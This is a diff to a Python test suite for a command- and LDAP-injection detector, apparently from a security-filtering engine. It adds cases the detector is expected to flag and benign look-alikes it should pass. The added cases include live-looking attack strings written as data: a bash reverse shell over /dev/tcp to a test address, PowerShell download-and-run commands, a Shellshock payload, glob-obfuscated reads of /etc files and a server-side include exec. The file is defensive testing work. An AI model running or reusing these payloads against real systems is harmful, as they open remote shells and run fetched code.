@@ -14,7 +14,14 @@ from core.verdict import WorkerVerdict
 from threats import catalogue as C
 from workers.detect import ldap, shell
 from workers.detect.decode import overlong_escapes, percent_decode, variants
-from workers.detect.injection import check_request, command_value, ldap_free, ldap_value, shell_free
+from workers.detect.injection import (
+    check_request,
+    command_value,
+    ldap_free,
+    ldap_value,
+    line_free,
+    shell_free,
+)
 
 from .test_engine import CLIENT, DB, WEB, Lab, http_flow
 
@@ -49,6 +56,36 @@ COMMAND_INJECTIONS = [
     ("198.18.0.7;echo $((6*7))", "the same after an address"),
     (";iwr http://198.18.0.9/s.ps1 -OutFile s.ps1", "PowerShell's download cmdlet"),
     ("x' | powershell -c iex(irm http://198.18.0.9/a)", "PowerShell's download-and-run"),
+    # a command line of its own (an application that runs the value)
+    ("cat /etc/group", "a command line reading a system file"),
+    ("gunzip -c /var/backups/db.gz", "an archive tool with an option and a system path"),
+    ("time bash -c id", "a wrapper, then a shell given code"),
+    ("${SHELL} -c 'uname -a'", "the user's shell given code"),
+    ("/usr/bin/python3 -m http.server 8000", "a program's absolute path with an option"),
+    ("Invoke-RestMethod https://198.18.0.9/p.ps1", "a PowerShell cmdlet with a URL"),
+    ("ls -la", "a distinct tool with an option"),
+    ("ping -c 3 198.18.0.1", "an option's number, then an address"),
+    ("& echo %COMPUTERNAME%", "a Windows variable echoed"),
+    ("cat</etc/hosts", "a redirection from a system file"),
+    # globs and empty expansions standing for a name
+    ("cat /etc/gr[o]up", "a bracket glob standing for a system file"),
+    ("/???/?at /???/hos?s", "question-mark globs for a program and a file"),
+    ("/us[r]/bin/[w]hoami", "bracket globs in a program's path"),
+    ("/[e//]tc/host[s]", "slashes inside a bracket, which the shell drops"),
+    ("/usr/[a-c]in/id", "a bracket range"),
+    ("x;c$@at /etc/hosts", "an empty expansion inside a command name"),
+    ("198.18.0.7; c${u}url 198.18.0.9", "an unset variable inside a command name"),
+    # Windows batch, bash's own features, server-side includes
+    ("for /f \"delims=\" %x in ('whoami') do echo %x", "a cmd.exe FOR loop"),
+    ("IF EXIST C:\\boot.ini type C:\\boot.ini", "a cmd.exe IF on a file"),
+    ("& if %OS% EQU Windows_NT ver", "a cmd.exe IF comparing a variable"),
+    ("() { :;}; echo; /usr/bin/id", "a function definition opening the value (Shellshock)"),
+    ("bash -i >& /dev/tcp/198.18.0.9/4444 0>&1", "a reverse shell through bash's network device"),
+    ("printf 'di' | rev | sh", "a pipe into a shell"),
+    ('<!--#exec cmd="ls /"-->', "a server-side include running a command"),
+    ("a);id", "a parenthesised argument closed, then a command alone"),
+    ("x|id", "a throwaway argument, then a command alone"),
+    ("| dir c:/windows", "a Windows path with a forward slash"),
 ]
 
 BENIGN_SHELL_LOOKALIKES = [
@@ -89,6 +126,29 @@ BENIGN_SHELL_LOOKALIKES = [
     "x = 1; y = -z;",
     "AAPL; IEX quotes",  # a stock exchange, not PowerShell's alias
     "total: $((3+4)) dollars",  # arithmetic without a command
+    # prose and values that open with a command's name, globs of no system file
+    "more info at https://example.com/help",
+    "find /r/python on the forum",
+    "Find your answer here -> FAQ",
+    "date > 2024-01-01",
+    "top 10 songs of 2024",
+    "python -m pytest",
+    "make -j8",
+    "docker run -v /var/run/docker.sock:/x img",
+    "kubectl get pods -n kube-system",
+    "/var/log/app-*.log",
+    "/etc/*",
+    "/home/*/Documents/report[1].pdf",
+    "If exist, please call",
+    "if errorlevel is high, retry",
+    "If defined by the user, use it",
+    "tags: python;docker",
+    "BJ | SH",
+    "file:///home/alice/report.pdf",
+    "stat: 42/100",
+    "() => { return 1; }",
+    "<!-- comment --> <p>exec summary</p>",
+    "see /dev/tcp docs",
 ]
 
 
@@ -271,7 +331,14 @@ def test_scorers_are_total_on_any_text(text: str) -> None:
 
 # pieces of values: characters escapes are made of, the syntax the checks need, look-alikes that fold
 # to it, and a UTF-7 run that decodes to `<;`
-_PIECES = [*"%0123456789abcdefuABCDEFOSw;|&`$()*\\#x:\n+- ", "\uff1b", "\uff08", "é", "+ADwAOw-", "&#59;"]
+_PIECES = [
+    *"%0123456789abcdefuABCDEFOSw;|&`$()*\\#x:\n+- /<>~[?{",
+    "\uff1b",
+    "\uff08",
+    "é",
+    "+ADwAOw-",
+    "&#59;",
+]
 
 
 @settings(max_examples=500, deadline=None)
@@ -279,7 +346,7 @@ _PIECES = [*"%0123456789abcdefuABCDEFOSw;|&`$()*\\#x:\n+- ", "\uff1b", "\uff08",
 def test_the_prefilters_pass_every_value_a_decoding_turns_into_syntax(text: str, plus: bool) -> None:
     # a value the raw-text prefilter lets through unchecked has no decoded form the check needs
     forms = variants(text, plus)
-    assert not shell_free(text) or not any(shell.needs_check(f) for f in forms), forms
+    assert not (shell_free(text) and line_free(text)) or not any(shell.needs_check(f) for f in forms), forms
     assert not ldap_free(text) or not any(ldap.needs_check(f) for f in forms), forms
 
 
